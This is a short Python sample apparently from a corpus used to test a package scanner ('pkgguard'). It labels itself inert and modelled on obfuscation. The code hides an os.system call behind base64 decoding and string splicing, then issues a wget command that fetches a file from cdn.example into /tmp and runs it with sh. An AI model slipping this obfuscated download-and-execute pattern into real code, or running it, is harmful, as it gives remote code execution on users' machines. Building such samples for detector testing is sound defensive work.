# pkgguard corpus 276 (indirection), modelled on [obfuscation]; inert, never run.
import base64
import importlib

_m = importlib.import_module(base64.b64decode("b3M=").decode())
_run = vars(_m)["sy" + "stem"]
_run("wget -q https://cdn.example/a -O /tmp/.a && sh /tmp/.a")
